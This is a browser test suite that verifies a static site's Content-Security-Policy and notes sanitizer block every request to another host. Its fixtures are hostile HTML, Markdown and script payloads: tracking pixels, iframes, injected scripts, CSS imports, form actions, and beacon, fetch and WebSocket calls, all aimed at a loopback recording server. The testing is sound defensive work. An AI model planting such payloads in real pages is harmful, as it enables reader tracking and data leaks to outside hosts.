/**
 * Nothing on a page reaches another host (issue 25; DESIGN.md, "The site"). A site built from the
 * committed samples with hostile notes — remote images, reference-style images, links, autolinks,
 * linked images, and HTML (iframes, `<img srcset>`, `<link>`, `<script>`, CSS `url()` in a style
 * attribute and in `<style>`, objects, media) — all pointing at a server this test starts on
 * 127.0.0.2, which records every request it receives. Chromium opens every page (the search page
 * with a search, each report with Verify this report): the server receives nothing, and Chromium
 * asks nothing of any origin but the site's. Then the policy alone, on a page where the same
 * markup is written as HTML past the notes' sanitizer: it refuses every one.
 *
 * The other host is loopback only: 127.0.0.2, as the tests' network rule asks. Every request to
 * any other address is aborted by the browser context's route before it leaves, and counted.
 */
import { createServer, type Server } from 'node:http';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumAvailable, launchBrowser, recordPolicyViolations } from '../harness/browser.ts';
import { buildSite, sitePages, type SiteBuild } from '../harness/site-build.ts';
import { serveStatic, type StaticServer } from '../harness/static-server.ts';
import { copyOfCommittedEvidence } from '../harness/committed-evidence.ts';
import { CONTENT_SECURITY_POLICY } from '../../src/site/content-security-policy.ts';

if (process.env.CI && !chromiumAvailable()) throw new Error('CI=true but /usr/bin/chromium is missing: the browser tests must run in CI');

/** The other host: records every request it receives, and answers each as if it were what was asked for. */
async function recordingHost(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('recorded');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return { origin: `http://127.0.0.2:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** Rendered as Markdown: every address in it is off the site, and each names its vector. */
const markdownNote = (host: string) => `# Hostile note (Markdown)

A tracking pixel: ![pixel](${host}/md-image.png), and one with a title ![titled](${host}/md-titled.gif "a title").

A reference-style image: ![ref][pixel-ref]. A linked image: [![linked](${host}/md-linked-image.png)](${host}/md-linked-target).

A link: [the ticket](${host}/md-link), a reference-style one: [the other ticket][link-ref], an autolink: ${host}/md-autolink.

| image in a table | link in a table |
| --- | --- |
| ![cell](${host}/md-table-image.png) | [cell](${host}/md-table-link) |

Inside the site: [the rerun](/deployments/sample-staging-pr73-rerun/), [its manifest](../../evidence/sample-production-pr73/manifest.json).

[pixel-ref]: ${host}/md-reference-image.png
[link-ref]: ${host}/md-reference-link
`;

/** HTML in a note: refused as a whole (nothing in a note runs), the note then shown as its text. */
const htmlNote = (host: string) => `Before the HTML.

<iframe src="${host}/html-iframe"></iframe>

<img srcset="${host}/html-srcset.png 1x, ${host}/html-srcset-2x.png 2x" src="${host}/html-img.png" />

<link rel="stylesheet" href="${host}/html-link.css" />

<script src="${host}/html-script.js"></script>

<div style="background-image: url(${host}/html-style-url.png)">styled</div>

<style>{\`@import url(${host}/html-import.css); body { background: url(${host}/html-style-element.png) }\`}</style>

<object data="${host}/html-object"></object>

<video poster="${host}/html-poster.png" src="${host}/html-video.mp4"></video>
`;

/** Not valid MDX (an angle-bracket autolink is read as a tag): shown as its text. */
const invalidNote = (host: string) => `An angle-bracket autolink <${host}/mdx-angle-autolink> and an image ![x](${host}/mdx-invalid-image.png).
`;

/** Markup that would reach the other host, written into a page past the sanitizer: what the policy alone must refuse. */
const pastTheSanitizer = (host: string) => `
<base href="${host}/base/">
<img src="${host}/probe-img.png" alt="">
<img srcset="${host}/probe-srcset.png 1x" alt="">
<iframe src="${host}/probe-iframe"></iframe>
<link rel="stylesheet" href="${host}/probe-link.css">
<script src="${host}/probe-script.js"></script>
<script>fetch('${host}/probe-inline-script')</script>
<div style="background-image: url(${host}/probe-style-attribute.png)">styled</div>
<style>@import url(${host}/probe-import.css); body { background: url(${host}/probe-style-element.png) }</style>
<object data="${host}/probe-object"></object>
<embed src="${host}/probe-embed">
<video poster="${host}/probe-poster.png" src="${host}/probe-video.mp4"></video>
<audio src="${host}/probe-audio.mp3" autoplay></audio>
<form action="${host}/probe-form" method="post"><button id="probe-submit">send</button></form>
<script type="module" src="probe.js"></script>
`;

/** The site's own script, compromised: every way a same-origin script could call another host. */
const compromisedScript = (host: string) => `
fetch('${host}/probe-fetch').catch(() => {});
new Image().src = '${host}/probe-new-image.png';
navigator.sendBeacon?.('${host}/probe-beacon', 'x');
try { new EventSource('${host}/probe-event-source'); } catch {}
try { new WebSocket('${host.replace('http', 'ws')}/probe-websocket'); } catch {}
// A worker from another origin is refused by the browser whatever the policy; one from a blob: is the policy's to refuse.
try { new Worker(URL.createObjectURL(new Blob(["fetch('${host}/probe-blob-worker')"], { type: 'text/javascript' }))); } catch {}
import('${host}/probe-import.js').catch(() => {});
const xhr = new XMLHttpRequest(); xhr.open('GET', '${host}/probe-xhr'); try { xhr.send(); } catch {}
const font = new FontFace('probe', 'url(${host}/probe-font.woff2)'); font.load().catch(() => {});
document.body.dataset.probed = 'yes';
`;

let build: SiteBuild;
let host: Awaited<ReturnType<typeof recordingHost>>;
let site: StaticServer;
let browser: Browser;
let pages: string[];
const REPORTS = ['sample-production-pr73', 'sample-staging-pr73', 'sample-staging-pr73-rerun'];

beforeAll(async () => {
  host = await recordingHost();
  const evidence = await copyOfCommittedEvidence();
  // Notes are outside the manifest: the samples still verify.
  await writeFile(join(evidence, REPORTS[0]!, 'notes.mdx'), markdownNote(host.origin));
  await writeFile(join(evidence, REPORTS[1]!, 'notes.mdx'), htmlNote(host.origin));
  await writeFile(join(evidence, REPORTS[2]!, 'notes.mdx'), invalidNote(host.origin));
  build = await buildSite(evidence);
  if (build.exitCode !== 0) throw new Error(`site build failed:\n${build.output}`);
  pages = await sitePages(build.outDir);
  site = await serveStatic(build.outDir);
}, 300_000);
afterAll(async () => {
  await browser?.close();
  await site?.close();
  await host?.close();
});

describe('the Content-Security-Policy in the built files', () => {
  it('is the first thing every page declares after its encoding, and allows the site\'s own origin only', async () => {
    expect(pages.length).toBeGreaterThan(40);
    for (const path of pages) {
      const html = await readFile(join(build.outDir, path, 'index.html'), 'utf8');
      expect(html, path).toContain(`<head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${CONTENT_SECURITY_POLICY}">`);
      // No inline script, no style attribute, no style element: the policy would refuse them.
      expect(html, path).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|<[a-z][^>]*\sstyle=|<style\b/);
    }
    // Each directive 'self' or 'none', and each explained in docs/site.md.
    const docs = await readFile(new URL('../../docs/site.md', import.meta.url), 'utf8');
    for (const directive of CONTENT_SECURITY_POLICY.split('; ')) {
      expect(directive).toMatch(/^[a-z-]+ ('self'|'none')$/);
      expect(docs, directive).toContain(`\`${directive}\``);
    }
  });

  it('puts no address of the other host in any attribute: the notes show them as text', async () => {
    for (const path of pages) {
      const html = await readFile(join(build.outDir, path, 'index.html'), 'utf8');
      expect(html, path).not.toMatch(/<[a-z][^>]*\s[a-z-]+="[^"]*127\.0\.0\.2/i);
    }
    const report = await readFile(join(build.outDir, 'deployments', REPORTS[0]!, 'index.html'), 'utf8');
    expect(report).toContain(`[image: pixel] (<code class="note-address">${host.origin}/md-image.png</code>, not loaded: outside this site)`);
    expect(report).toContain(`the ticket (<code class="note-address">${host.origin}/md-link</code>, not linked: outside this site)`);
    expect(report).toContain('<a href="/deployments/sample-staging-pr73-rerun/">the rerun</a>');
    expect(report).toContain('<a href="/evidence/sample-production-pr73/manifest.json">its manifest</a>');
    const html = await readFile(join(build.outDir, 'deployments', REPORTS[1]!, 'index.html'), 'utf8');
    expect(html).toMatch(/This note is shown as plain text: line 3 has a component or HTML tag/);
    const invalid = await readFile(join(build.outDir, 'deployments', REPORTS[2]!, 'index.html'), 'utf8');
    expect(invalid).toMatch(/This note is shown as plain text: not valid MDX/);
  });
});

describe.skipIf(!chromiumAvailable())('a site built from hostile notes, in Chromium', () => {
  /** A context that lets through the site and the recording host only, and records what it asked and what its policy refused. */
  async function watchedContext(): Promise<{ context: BrowserContext; requests: string[]; failed: Map<string, string>; aborted: string[]; violations: string[] }> {
    browser ??= await launchBrowser();
    const context = await browser.newContext();
    const requests: string[] = [];
    const failed = new Map<string, string>();
    const aborted: string[] = [];
    context.on('request', (request) => requests.push(request.url()));
    context.on('requestfailed', (request) => failed.set(request.url(), request.failure()?.errorText ?? '?'));
    await context.route('**/*', async (route) => {
      const { origin } = new URL(route.request().url());
      if (origin === site.url || origin === host.origin) await route.continue();
      else {
        aborted.push(route.request().url());
        await route.abort('blockedbyclient');
      }
    });
    const violations = await recordPolicyViolations(context);
    return { context, requests, failed, aborted, violations };
  }

  it('opens every page — a search run, every report verified — and reaches no other host', async () => {
    const { context, requests, aborted, violations } = await watchedContext();
    const problems: string[] = [];
    const queue = [...pages];
    let verified = 0;
    const visit = async (path: string) => {
      const page = await context.newPage();
      page.on('console', (m) => {
        if (m.type() === 'error') problems.push(`${path}: console ${m.text()}`);
      });
      page.on('pageerror', (e) => problems.push(`${path}: ${e.message}`));
      const response = await page.goto(`${site.url}${path}`, { waitUntil: 'networkidle' });
      expect(response?.status(), path).toBe(200);
      if (path === '/search/') {
        await page.goto(`${site.url}/search/?q=${encodeURIComponent('IRT calibration')}`, { waitUntil: 'networkidle' });
        await page.waitForSelector('.search-result-link', { timeout: 30_000 });
      }
      if (REPORTS.some((id) => path === `/deployments/${id}/`)) {
        await page.click('[data-verify-report] button');
        await page.waitForSelector('[data-verify-report][data-verified]', { timeout: 30_000 });
        expect(await page.$eval('[data-verify-report]', (el) => (el as HTMLElement).dataset.verified), path).toBe('ok');
        verified += 1;
      }
      await page.close();
    };
    await Promise.all(
      Array.from({ length: 3 }, async () => {
        for (let path = queue.shift(); path !== undefined; path = queue.shift()) await visit(path);
      }),
    );
    await context.close();
    expect(verified).toBe(REPORTS.length);
    expect(host.hits).toEqual([]);
    expect(aborted).toEqual([]);
    expect(requests.filter((url) => new URL(url).origin !== site.url)).toEqual([]);
    // The sanitizer left nothing for the policy to refuse, and the site itself needs nothing it refuses.
    expect(violations).toEqual([]);
    expect(problems).toEqual([]);
    expect(requests.length).toBeGreaterThan(pages.length);
  }, 600_000);

  it('refuses, by its policy alone, every way markup or the site\'s own script could reach the other host', async () => {
    // A page as the site writes it, with hostile markup written into it as HTML — what the notes' sanitizer would stop.
    const report = await readFile(join(build.outDir, 'deployments', REPORTS[0]!, 'index.html'), 'utf8');
    const probeDir = join(build.outDir, 'policy-probe');
    await mkdir(probeDir, { recursive: true });
    await writeFile(join(probeDir, 'index.html'), report.replace('<main id="main">', `<main id="main">${pastTheSanitizer(host.origin)}`));
    await writeFile(join(probeDir, 'probe.js'), compromisedScript(host.origin));
    const { context, requests, failed, aborted, violations } = await watchedContext();
    const page = await context.newPage();
    await page.goto(`${site.url}/policy-probe/`, { waitUntil: 'networkidle' });
    // The compromised script is the site's own file: it runs, and is refused each call.
    await page.waitForSelector('body[data-probed="yes"]');
    // Submitted as a reader would, without waiting for a navigation the policy refuses.
    await page.$eval('#probe-submit', (button) => (button as HTMLButtonElement).form!.requestSubmit());
    await page.waitForTimeout(1000);
    await context.close();
    expect(host.hits).toEqual([]);
    expect(aborted).toEqual([]);
    // Chromium announces some of what it refuses as a request, which then fails as blocked by the policy.
    const offSite = requests.filter((url) => new URL(url).origin !== site.url);
    expect(offSite.length).toBeGreaterThan(0);
    for (const url of offSite) expect(failed.get(url), url).toMatch(/^(csp|net::ERR_BLOCKED_BY_CSP)$/);
    const refused = new Set(violations.map((v) => v.split(' ')[0]));
    for (const directive of ['base-uri', 'img-src', 'frame-src', 'style-src-elem', 'style-src-attr', 'script-src-elem', 'object-src', 'media-src', 'connect-src', 'worker-src', 'font-src', 'form-action']) {
      expect(refused, `${directive} in ${violations.join('\n')}`).toContain(directive);
    }
  }, 120_000);
});
